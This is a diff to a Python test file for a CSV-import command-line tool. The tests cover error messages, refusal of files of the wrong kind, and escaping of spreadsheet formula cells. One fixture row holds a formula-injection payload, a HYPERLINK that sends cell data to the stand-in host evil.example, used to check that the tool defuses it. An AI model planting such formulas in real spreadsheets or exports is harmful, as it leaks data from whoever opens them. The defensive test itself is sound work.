@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from collections.abc import Callable
 from datetime import UTC, datetime
@@ -628,8 +629,10 @@ def test_the_command_exits_2_when_the_database_has_no_schema(
     monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'empty.db'}")
     code, output = cli_env("clients", str(SAMPLES / "clients.csv"), "--org", "lonestar")
     assert code == 2
-    assert "cannot read the database (no such table: organizations)" in output
-    assert "(`salesbot db upgrade`)?" in output
+    assert output == (
+        f"error: the database at sqlite:///{tmp_path / 'empty.db'} has no schema: "
+        "run `salesbot db upgrade`"
+    )
 
 
 def test_the_command_exits_2_for_a_file_that_is_not_utf8_and_imports_nothing(
@@ -676,3 +679,78 @@ def test_a_dry_run_of_the_command_writes_nothing(
     assert "dry run: nothing was written" in output
     assert "unknown client domain pinnaclelending.com (import clients first)" in output
     assert contacts_in(committed_engine) == []
+
+
+def tags_by_domain(engine: Engine) -> dict[str, list[str]]:
+    with Session(engine) as session:
+        return {
+            domain: tags for domain, tags in session.execute(select(m.Client.domain, m.Client.tags))
+        }
+
+
+@pytest.mark.parametrize(
+    ("kind", "sample", "looks_like", "columns"),
+    [
+        ("clients", "contacts", "contacts", "email, first_name, last_name, title, …"),
+        ("contacts", "orders", "orders", "order_number, contact_email, property_address, city, …"),
+        ("orders", "clients", "clients", "name, client_type, tags"),
+    ],
+)
+def test_a_file_of_another_kind_is_refused_by_its_header_and_nothing_is_written(
+    cli_env: Callable[..., tuple[int, str]],
+    committed_engine: Engine,
+    kind: str,
+    sample: str,
+    looks_like: str,
+    columns: str,
+) -> None:
+    code, _ = cli_env("clients", str(SAMPLES / "clients.csv"), "--org", "lonestar")
+    assert code == 0
+    before = tags_by_domain(committed_engine)
+
+    code, output = cli_env(kind, str(SAMPLES / f"{sample}.csv"), "--org", "lonestar")
+
+    assert code == 2
+    assert output == (
+        f"error: {SAMPLES / sample}.csv: this looks like a file of {looks_like}, not {kind} "
+        f"(its header has {columns}); nothing was imported: run `salesbot import {looks_like}` "
+        "with it"
+    )
+    assert tags_by_domain(committed_engine) == before
+    assert contacts_in(committed_engine) == []
+
+
+def test_formula_cells_in_the_errors_csv_are_written_as_text_and_read_back_as_they_were(
+    cli_env: Callable[..., tuple[int, str]], committed_engine: Engine, tmp_path: Path
+) -> None:
+    source = write(
+        tmp_path / "contacts.csv",
+        "email,first_name,last_name,title,phone\n"
+        '=HYPERLINK("http://evil.example/?"&A1;"click"),+Dana,-Whitfield,@Loan,"\tx"\n',
+    )
+    errors = tmp_path / "rejected.csv"
+
+    code, _ = cli_env("contacts", str(source), "--org", "lonestar", "--errors-csv", str(errors))
+
+    assert code == 1
+    rows = list(csv.reader(errors.open(encoding="utf-8-sig", newline="")))
+    assert rows[1][3:] == [
+        '\'=HYPERLINK("http://evil.example/?"&A1;"click")',
+        "'+Dana",
+        "'-Whitfield",
+        "'@Loan",
+        "'\tx",
+    ]
+    fixed = tmp_path / "fixed.csv"
+    rows[1][3] = "dana@pinnaclelending.com"
+    with fixed.open("w", encoding="utf-8", newline="") as handle:
+        csv.writer(handle).writerows(rows)
+    code, output = cli_env("contacts", str(fixed), "--org", "lonestar")
+    assert code == 0, output
+    with Session(committed_engine) as session:
+        contact = session.scalars(select(m.Contact)).one()
+    assert (contact.first_name, contact.last_name, contact.title) == (
+        "+Dana",
+        "-Whitfield",
+        "@Loan",
+    )
